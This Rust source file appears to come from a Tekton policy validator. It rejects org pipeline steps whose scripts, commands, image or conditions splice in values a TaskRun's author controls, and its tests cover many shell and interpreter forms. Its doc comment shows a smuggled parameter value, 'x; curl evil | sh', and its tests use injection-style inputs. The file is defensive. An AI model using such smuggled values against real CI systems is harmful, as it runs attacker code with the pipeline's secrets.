//! An org step must not run code the TaskRun's author writes.
//!
//! Tekton substitutes variables into a step's text before the step runs, so a `$(params.url)`
//! in a `script` becomes part of the script: a TaskRun that passes `url: "x; curl evil | sh"`
//! runs its own code inside the org's step, with the org step's image, mounts and secrets.
//! Values the author controls are `$(params.…)`, `$(workspaces.<w>.path|claim|volume)` (the
//! author declares the workspace, and its `mountPath` is used verbatim), the results (and
//! artifacts) of steps that are not the policy's own, and `$(tasks.…)`. They may reach an org
//! step through `env` (`env: [{name: URL, value: "$(params.url)"}]`, then `"$URL"` in the
//! script), where they stay data.
//!
//! Checked: `script`; in `command` + `args`, read past wrappers (`env`, `timeout`, `nice`,
//! `busybox`, …), the program, the inline code of a shell (`-c`) or an interpreter (`python -c`,
//! `node -e`, `perl -e`, `ruby -e`, `php -r`, an `awk` program), and the script file a shell or
//! interpreter runs; `image`, `workingDir`, `when` and `onError`, which choose what runs, where,
//! whether, and whether its failure counts. Other arguments are data to the program.

use std::collections::BTreeSet;

use super::path::{Errors, FieldPath};
use super::syntax::references;
use crate::policy::api::Step;

/// Programs taken for a shell (by the last part of their path).
pub const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];

/// The author-controlled variables in `step`'s shell strings, image, program and workingDir.
/// `own_steps` are the policy's step names, whose results the policy itself writes.
pub(super) fn check(step: &Step, at: &FieldPath, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    if let Some(script) = &step.script {
        report(Place::Script, &at.field("script"), script, own_steps, errs);
    }
    let command = step.command.as_deref().unwrap_or_default();
    let args = step.args.as_deref().unwrap_or_default();
    let argv: Vec<&str> = command.iter().chain(args).map(String::as_str).collect();
    let path_of = |i: usize| {
        if i < command.len() {
            at.field_index("command", i)
        } else {
            at.field_index("args", i - command.len())
        }
    };
    for (i, place) in code_positions(&argv, !command.is_empty()) {
        report(place, &path_of(i), argv[i], own_steps, errs);
    }
    for (i, when) in step.when.iter().flatten().enumerate() {
        let text = serde_json::to_string(when).unwrap_or_default();
        report(
            Place::When,
            &at.field_index("when", i),
            &text,
            own_steps,
            errs,
        );
    }
    if let Some(on_error) = &step.on_error {
        report(
            Place::OnError,
            &at.field("onError"),
            on_error,
            own_steps,
            errs,
        );
    }
    if let Some(image) = &step.image {
        report(Place::Image, &at.field("image"), image, own_steps, errs);
    }
    if let Some(dir) = &step.working_dir {
        report(
            Place::WorkingDir,
            &at.field("workingDir"),
            dir,
            own_steps,
            errs,
        );
    }
}

/// An org step must not run code from a volume whose content Kubernetes takes from the
/// TaskRun's namespace (a ConfigMap, a Secret, a PersistentVolumeClaim, a projection of
/// them), where the TaskRun's author can write it: its program, the script file a shell or
/// interpreter runs, or its working directory's programs.
pub(super) fn check_code_from_namespace(
    step: &Step,
    volumes: &[k8s_openapi::api::core::v1::Volume],
    at: &FieldPath,
    errs: &mut Errors,
) {
    let source = |v: &k8s_openapi::api::core::v1::Volume| -> Option<&'static str> {
        if v.config_map.is_some() {
            Some("a ConfigMap")
        } else if v.secret.is_some() {
            Some("a Secret")
        } else if v.persistent_volume_claim.is_some() {
            Some("a PersistentVolumeClaim")
        } else if v.projected.as_ref().is_some_and(|p| {
            p.sources
                .iter()
                .flatten()
                .any(|s| s.config_map.is_some() || s.secret.is_some())
        }) {
            Some("a projection of ConfigMaps or Secrets")
        } else {
            None
        }
    };
    let mounts: Vec<(&str, &str, &'static str)> = step
        .volume_mounts
        .iter()
        .flatten()
        .filter_map(|m| {
            let volume = volumes.iter().find(|v| v.name == m.name)?;
            Some((m.mount_path.as_str(), m.name.as_str(), source(volume)?))
        })
        .collect();
    if mounts.is_empty() {
        return;
    }
    let command = step.command.as_deref().unwrap_or_default();
    let args = step.args.as_deref().unwrap_or_default();
    let argv: Vec<&str> = command.iter().chain(args).map(String::as_str).collect();
    let under = |path: &str| {
        mounts.iter().find(|(mount, _, _)| {
            let mount = mount.trim_end_matches('/');
            path == mount || path.starts_with(&format!("{mount}/"))
        })
    };
    let mut places: Vec<(FieldPath, &str)> = code_positions(&argv, !command.is_empty())
        .into_iter()
        .filter(|(_, place)| matches!(place, Place::Program | Place::ScriptFile))
        .map(|(i, _)| {
            let path = if i < command.len() {
                at.field_index("command", i)
            } else {
                at.field_index("args", i - command.len())
            };
            (path, argv[i])
        })
        .collect();
    if let Some(dir) = &step.working_dir {
        places.push((at.field("workingDir"), dir.as_str()));
    }
    for (path, text) in places {
        if let Some((_, name, what)) = under(text) {
            errs.add(
                &path,
                format!(
                    "{text:?} is in volume {name:?}, {what} that Kubernetes reads from the TaskRun's namespace, where the TaskRun's author can write it, so the author would write the code this org step runs; ship the code in the image (or a volume the platform controls, such as an image volume or a CSI driver), and keep namespace volumes for data"
                ),
            );
        }
    }
}

/// Where a variable was found, which decides the message.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Script,
    ShellArg,
    /// Inline code of an interpreter (`python -c`, `node -e`, …).
    InlineCode,
    /// The script file a shell or interpreter runs.
    ScriptFile,
    Program,
    Image,
    WorkingDir,
    When,
    OnError,
}

fn report(place: Place, at: &FieldPath, text: &str, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    let mut found: Vec<&str> = Vec::new();
    for r in references(text) {
        if author_controlled(r, own_steps) && !found.contains(&r) {
            found.push(r);
        }
    }
    let Some(first) = found.first() else {
        return;
    };
    let list = found
        .iter()
        .map(|r| format!("$({r})"))
        .collect::<Vec<_>>()
        .join(", ");
    let env = env_name(first);
    let via_env = format!("env: [{{name: {env}, value: \"$({first})\"}}]");
    let message = match place {
        Place::Script | Place::ShellArg => format!(
            "{} uses {list}, which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: {via_env}, and \"${env}\" (in double quotes) in the script",
            if matches!(place, Place::Script) {
                "script"
            } else {
                "the shell's -c script"
            }
        ),
        Place::InlineCode => format!(
            "the interpreter's inline code uses {list}, which the TaskRun's author controls: Tekton pastes the value into the code before it runs, so the author could run their own code in this org step; pass it through env instead: {via_env}, and read it from the environment in the code"
        ),
        Place::ScriptFile => format!(
            "the script this step runs is named by {list}, which the TaskRun's author controls, so the author would choose the code this org step runs; name a script of the image or of a policy volume literally"
        ),
        Place::Program => format!(
            "the program uses {list}, which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env ({via_env})"
        ),
        Place::When => format!(
            "when uses {list}, which the TaskRun's author controls, so the author would decide whether this org step runs; org steps run unconditionally (or on conditions of the policy's own steps' results)"
        ),
        Place::OnError => format!(
            "onError uses {list}, which the TaskRun's author controls, so the author would decide whether this org step's failure counts; write onError literally"
        ),
        Place::Image => format!(
            "image uses {list}, which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally"
        ),
        Place::WorkingDir => format!(
            "workingDir uses {list}, which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env ({via_env})"
        ),
    };
    errs.add(at, message);
}

/// Whether the variable `r` (the text inside `$(…)`) holds a value the TaskRun's author
/// chooses. Not: `context.*`, `results.*`, `step.*`, `credentials.path`, a step's
/// `exitCode.path`, the policy's own steps' results, and a shell's own `$(command)`.
fn author_controlled(r: &str, own_steps: &BTreeSet<&str>) -> bool {
    // Tekton still substitutes v1beta1's `inputs.params.x` (`ApplyReplacements`).
    let r = r.strip_prefix("inputs.").unwrap_or(r);
    if let Some(rest) = r.strip_prefix("params") {
        return rest.starts_with('.') || rest.starts_with('[');
    }
    if let Some(rest) = r.strip_prefix("workspaces.") {
        return rest
            .split_once('.')
            .is_some_and(|(_, field)| matches!(field, "path" | "claim" | "volume"));
    }
    if let Some(rest) = r.strip_prefix("steps.") {
        return rest
            .split_once('.')
            .is_some_and(|(step, tail)| tail != "exitCode.path" && !own_steps.contains(step));
    }
    r.starts_with("tasks.")
}

/// A name for the env var the message suggests: `params.git-url` → `GIT_URL`,
/// `workspaces.src.path` → `SRC_PATH`, `steps.build.results.digest` → `BUILD_DIGEST`.
fn env_name(r: &str) -> String {
    let body = ["params", "workspaces.", "steps.", "tasks."]
        .iter()
        .find_map(|p| r.strip_prefix(p))
        .unwrap_or(r)
        .replace(".results.", ".")
        .replace("[*]", "");
    let mut name = String::new();
    for c in body.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_uppercase());
        } else if !name.is_empty() && !name.ends_with('_') {
            name.push('_');
        }
    }
    let name = name.trim_end_matches('_');
    match name.chars().next() {
        None => "VALUE".to_owned(),
        Some(c) if c.is_ascii_digit() => format!("V_{name}"),
        Some(_) => name.to_owned(),
    }
}

/// Programs that run the program named after them (with their own options first).
const WRAPPERS: &[&str] = &[
    "env",
    "busybox",
    "timeout",
    "nice",
    "nohup",
    "exec",
    "stdbuf",
    "ionice",
    "setsid",
    "time",
    "chrt",
    "taskset",
    "sudo",
    "doas",
    "unbuffer",
    "tini",
    "dumb-init",
    "catatonit",
];

/// Interpreters and the option that takes inline code.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("pwsh", &["-c", "-Command", "-command"]),
    ("powershell", &["-c", "-Command", "-command"]),
    ("tclsh", &[]),
    ("awk", &[]),
    ("gawk", &[]),
    ("mawk", &[]),
];

/// Where in `argv` (`command` then `args`) code is chosen: the program (after any wrappers;
/// only when the step sets `command`, else the image's entrypoint runs `args`), the inline code
/// of a shell (`-c`) or interpreter, and the script file a shell or interpreter runs.
fn code_positions(argv: &[&str], has_command: bool) -> Vec<(usize, Place)> {
    let base = |s: &str| {
        let name = s.rsplit('/').next().unwrap_or(s);
        // python3.12 → python3
        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
            .to_owned()
            + if name.starts_with("python3") { "3" } else { "" }
    };
    let mut out = Vec::new();
    if !has_command {
        return out;
    }
    let mut i = 0;
    // Wrappers: each is a program too, then the program it runs.
    loop {
        let Some(program) = argv.get(i) else {
            return out;
        };
        out.push((i, Place::Program));
        let name = base(program);
        if !WRAPPERS.contains(&name.as_str()) {
            break;
        }
        i += 1;
        // Skip the wrapper's options and, for timeout/nice/… their operands before the program.
        while let Some(a) = argv.get(i) {
            match *a {
                "--" => {
                    i += 1;
                    break;
                }
                "-u" | "--unset" | "-C" | "--chdir" | "-n" | "-s" | "-k" | "--signal"
                | "--kill-after" | "-c" | "-p" | "-i" | "-o" | "-e" => i += 2,
                a if a.starts_with('-') || a.contains('=') => i += 1,
                // timeout's DURATION.
                a if name == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit()) => {
                    i += 1
                }
                _ => break,
            }
        }
    }
    let program = base(argv[i]);
    let shell = SHELLS.contains(&program.as_str());
    let interpreter = INTERPRETERS.iter().find(|(p, _)| *p == program);
    if !shell && interpreter.is_none() {
        return out;
    }
    i += 1;
    let inline_flags: &[&str] = interpreter.map_or(&[], |(_, f)| *f);
    let awk_like = matches!(program.as_str(), "awk" | "gawk" | "mawk" | "tclsh");
    let mut inline = false;
    while let Some(a) = argv.get(i) {
        match *a {
            "--" => {
                i += 1;
                break;
            }
            a if inline_flags.contains(&a) => {
                inline = true;
                i += 1;
                break;
            }
            // Options that take the next argument.
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" | "-f" | "-v" | "-F" | "-m"
            | "-W" | "-I" | "-r" | "--require" => {
                if awk_like && *a == "-f" {
                    // awk -f FILE: the script file.
                    if argv.get(i + 1).is_some() {
                        out.push((i + 1, Place::ScriptFile));
                    }
                    return out;
                }
                i += 2
            }
            a if a.starts_with("--") => i += 1,
            a if a.len() > 1 && (a.starts_with('-') || a.starts_with('+')) => {
                let flags = &a[1..];
                if shell && a.starts_with('-') && flags.contains('c') {
                    inline = true;
                }
                // `-eo pipefail`: a cluster ending in o/O takes the next argument too.
                i += if shell && flags.ends_with(['o', 'O']) {
                    2
                } else {
                    1
                };
                if inline && !shell {
                    break;
                }
            }
            _ => break,
        }
    }
    if i < argv.len() {
        let place = match (shell, inline || awk_like) {
            (true, true) => Place::ShellArg,
            (false, true) => Place::InlineCode,
            (_, false) => Place::ScriptFile,
        };
        out.push((i, place));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn own() -> BTreeSet<&'static str> {
        BTreeSet::from(["bookend-setup", "bookend-scan"])
    }

    fn run(step: &Step) -> Vec<String> {
        let mut errs = Errors::new();
        check(
            step,
            &FieldPath::new("spec").field_index("preSteps", 0),
            &own(),
            &mut errs,
        );
        errs.into_vec()
            .into_iter()
            .map(|e| format!("{}: {}", e.path, e.message))
            .collect()
    }

    fn shell(command: &[&str], args: &[&str]) -> Step {
        Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            command: Some(command.iter().map(|s| (*s).to_owned()).collect()),
            args: (!args.is_empty()).then(|| args.iter().map(|s| (*s).to_owned()).collect()),
            ..Step::default()
        }
    }

    #[test]
    fn author_variables_are_recognised() {
        for r in [
            "params.url",
            "params.obj.key",
            "params.list[*]",
            "params.list[0]",
            r#"params["a.b"]"#,
            "params['a.b']",
            "workspaces.src.path",
            "workspaces.src.claim",
            "workspaces.src.volume",
            "steps.build.results.digest",
            "steps.build.outputs.image",
            "steps.step-unnamed-0.results.x",
            "tasks.build.results.digest",
            "tasks.status",
        ] {
            assert!(author_controlled(r, &own()), "{r}");
        }
        for r in [
            "context.taskRun.name",
            "context.taskRun.namespace",
            "context.taskRun.uid",
            "context.task.name",
            "context.task.retry-count",
            "results.digest.path",
            "step.results.out.path",
            "steps.build.exitCode.path",
            "steps.step-build.exitCode.path",
            "steps.bookend-setup.results.token",
            "credentials.path",
            "workspaces.src.bound",
            "cat /tekton/steps/0/exitCode",
            "date",
            "parameters",
        ] {
            assert!(!author_controlled(r, &own()), "{r}");
        }
    }

    #[test]
    fn a_script_with_a_param_is_refused_with_the_env_fix() {
        let step = Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            script: Some("curl $(params.url) -o $(results.out.path) $(params.url)".into()),
            ..Step::default()
        };
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].script: script uses $(params.url), which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: env: [{name: URL, value: "$(params.url)"}], and "$URL" (in double quotes) in the script"#
            ]
        );
    }

    #[test]
    fn the_dash_c_script_is_found_after_the_shells_options() {
        let cases: &[(&[&str], &[&str], &str)] = &[
            (&["sh", "-c"], &["echo $(params.a)"], "args[0]"),
            (&["/bin/sh", "-c", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash"],
                &["-euo", "pipefail", "-c", "echo $(params.a)"],
                "args[3]",
            ),
            (&["bash", "-ec", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash", "--norc", "-o", "errexit", "-c"],
                &["x $(params.a)"],
                "args[0]",
            ),
            (
                &["/usr/bin/env", "sh", "-c"],
                &["echo $(params.a)"],
                "args[0]",
            ),
            (
                &["env", "-i", "A=b", "-u", "X", "dash", "-c", "$(params.a)"],
                &[],
                "command[7]",
            ),
            (&["busybox", "ash", "-c"], &["$(params.a)"], "args[0]"),
            (&["zsh", "-c"], &["$(params.a)"], "args[0]"),
            (&["/bin/ksh", "-xc"], &["$(params.a)"], "args[0]"),
        ];
        for (command, args, field) in cases {
            let m = run(&shell(command, args));
            assert_eq!(m.len(), 1, "{command:?} {args:?}: {m:?}");
            assert!(
                m[0].starts_with(&format!(
                    "spec.preSteps[0].{field}: the shell's -c script uses $(params.a)"
                )),
                "{m:?}"
            );
        }
    }

    #[test]
    fn interpreters_wrappers_script_files_conditions_and_old_names_are_found() {
        // Each found by a reviewer trying to break the claim (issue "Sealed").
        let cases: &[(&[&str], &[&str], &str)] = &[
            (
                &["python3", "-c"],
                &["import os; os.system('x $(params.x)')"],
                "args[0]: the interpreter's inline code",
            ),
            (
                &["node", "-e", "run('$(params.x)')"],
                &[],
                "command[2]: the interpreter's inline code",
            ),
            (
                &["perl", "-e"],
                &["system('$(params.x)')"],
                "the interpreter's inline code",
            ),
            (
                &["timeout", "60", "sh", "-c"],
                &["curl $(params.x)"],
                "args[0]: the shell's -c script",
            ),
            (
                &["nice", "-n", "5", "/bin/sh", "-c", "curl $(params.x)"],
                &[],
                "command[5]: the shell's -c script",
            ),
            (
                &["env", "A=1", "timeout", "-s", "KILL", "9", "bash", "-c"],
                &["$(params.x)"],
                "the shell's -c script",
            ),
            (
                &["sh"],
                &["$(workspaces.source.path)/ci/report.sh"],
                "args[0]: the script this step runs is named by",
            ),
            (
                &["python3"],
                &["$(params.script)"],
                "the script this step runs",
            ),
            (
                &["awk"],
                &["{ system(\"$(params.x)\") }"],
                "the interpreter's inline code",
            ),
            (
                &["sh", "-c"],
                &["curl $(inputs.params.rev)"],
                "$(inputs.params.rev)",
            ),
            (
                &["timeout", "$(params.t)"],
                &[],
                "command[1]: the program uses",
            ),
        ];
        for (command, args, says) in cases {
            let found = run(&shell(command, args));
            assert!(
                found.iter().any(|f| f.contains(says)),
                "{command:?} {args:?}: {found:?}"
            );
        }
        let mut step = shell(&["/scan"], &[]);
        step.on_error = Some("$(params.scan-on-error)".into());
        step.when = Some(vec![
            serde_json::from_value(serde_json::json!(
                {"input": "$(params.skip)", "operator": "notin", "values": ["yes"]}
            ))
            .unwrap(),
        ]);
        let found = run(&step);
        assert!(
            found
                .iter()
                .any(|f| f.starts_with("spec.preSteps[0].when[0]: when uses $(params.skip)")),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .any(|f| f
                    .starts_with("spec.preSteps[0].onError: onError uses $(params.scan-on-error)")),
            "{found:?}"
        );
    }

    #[test]
    fn code_from_a_volume_of_the_taskruns_namespace_is_refused() {
        use k8s_openapi::api::core::v1::{ConfigMapVolumeSource, Volume, VolumeMount};
        let volumes = vec![
            Volume {
                name: "bookend-scripts".into(),
                config_map: Some(ConfigMapVolumeSource {
                    name: "org-upload-scripts".into(),
                    ..Default::default()
                }),
                ..Default::default()
            },
            Volume {
                name: "bookend-tmp".into(),
                empty_dir: Some(Default::default()),
                ..Default::default()
            },
        ];
        let check = |command: &[&str], args: &[&str], mount: (&str, &str)| {
            let mut step = shell(command, args);
            step.volume_mounts = Some(vec![VolumeMount {
                name: mount.0.into(),
                mount_path: mount.1.into(),
                ..Default::default()
            }]);
            let mut errs = Errors::new();
            check_code_from_namespace(
                &step,
                &volumes,
                &FieldPath::new("spec").field_index("preSteps", 0),
                &mut errs,
            );
            errs.into_vec()
                .into_iter()
                .map(|e| format!("{}: {}", e.path, e.message))
                .collect::<Vec<_>>()
        };
        let found = check(
            &["/bin/sh", "/bookend/scripts/upload.sh"],
            &[],
            ("bookend-scripts", "/bookend/scripts"),
        );
        assert!(found[0].starts_with("spec.preSteps[0].command[1]: \"/bookend/scripts/upload.sh\" is in volume \"bookend-scripts\", a ConfigMap"), "{found:?}");
        assert_eq!(
            check(
                &["/bookend/scripts/run"],
                &[],
                ("bookend-scripts", "/bookend/scripts")
            )
            .len(),
            1
        );
        // Data from it, or code from an emptyDir: fine.
        assert!(
            check(
                &["/bin/upload"],
                &["/bookend/scripts/config.json"],
                ("bookend-scripts", "/bookend/scripts")
            )
            .is_empty()
        );
        assert!(
            check(
                &["/bin/sh", "/tmp/x/run.sh"],
                &[],
                ("bookend-tmp", "/tmp/x")
            )
            .is_empty()
        );
    }

    #[test]
    fn values_passed_as_data_are_not_flagged() {
        let safe: &[(&[&str], &[&str])] = &[
            // Positional parameters after the script are data to the shell.
            (&["sh", "-c", r#"curl "$1""#, "sh", "$(params.url)"], &[]),
            // Not a shell: an argument, not code.
            (&["curl"], &["$(params.url)"]),
            (&["python3", "-c", "print(1)"], &["$(params.url)"]),
            // A shell without -c reads a file.
            (&["sh", "/scripts/run.sh"], &["$(params.url)"]),
            // Safe variables in the script.
            (
                &["sh", "-c"],
                &[
                    "echo $(context.taskRun.name) $(steps.bookend-setup.results.t) $(steps.build.exitCode.path) > $(results.r.path)",
                ],
            ),
        ];
        for (command, args) in safe {
            assert_eq!(
                run(&shell(command, args)),
                Vec::<String>::new(),
                "{command:?} {args:?}"
            );
        }
        // In env, a value is data.
        let mut step = shell(&["sh", "-c"], &[r#"curl "$URL""#]);
        step.env = Some(vec![k8s_openapi::api::core::v1::EnvVar {
            name: "URL".into(),
            value: Some("$(params.url)".into()),
            ..Default::default()
        }]);
        assert!(run(&step).is_empty());
    }

    #[test]
    fn image_program_and_working_dir_are_refused_with_their_own_message() {
        let mut step = shell(&["$(params.tool)"], &["$(params.url)"]);
        step.image = Some("registry/$(params.image):1".into());
        step.working_dir = Some("$(workspaces.source.path)".into());
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].command[0]: the program uses $(params.tool), which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env (env: [{name: TOOL, value: "$(params.tool)"}])"#,
                "spec.preSteps[0].image: image uses $(params.image), which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally",
                r#"spec.preSteps[0].workingDir: workingDir uses $(workspaces.source.path), which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env (env: [{name: SOURCE_PATH, value: "$(workspaces.source.path)"}])"#,
            ]
        );
    }

    #[test]
    fn several_variables_are_named_once_each() {
        let step = shell(
            &["sh", "-c"],
            &[
                "git clone $(params.repo) $(workspaces.src.path) && git checkout $(params.repo) $(steps.build.results.sha)",
            ],
        );
        let m = run(&step);
        assert_eq!(m.len(), 1);
        assert!(
            m[0].contains(
                "uses $(params.repo), $(workspaces.src.path), $(steps.build.results.sha), which"
            ),
            "{m:?}"
        );
    }

    #[test]
    fn env_names() {
        assert_eq!(env_name("params.git-url"), "GIT_URL");
        assert_eq!(env_name(r#"params["a.b"]"#), "A_B");
        assert_eq!(env_name("params.list[*]"), "LIST");
        assert_eq!(env_name("workspaces.src.path"), "SRC_PATH");
        assert_eq!(env_name("steps.build.results.digest"), "BUILD_DIGEST");
        assert_eq!(env_name("tasks.t.results.r"), "T_R");
        assert_eq!(env_name("params.1st"), "V_1ST");
        assert_eq!(env_name("params.-"), "VALUE");
    }
}
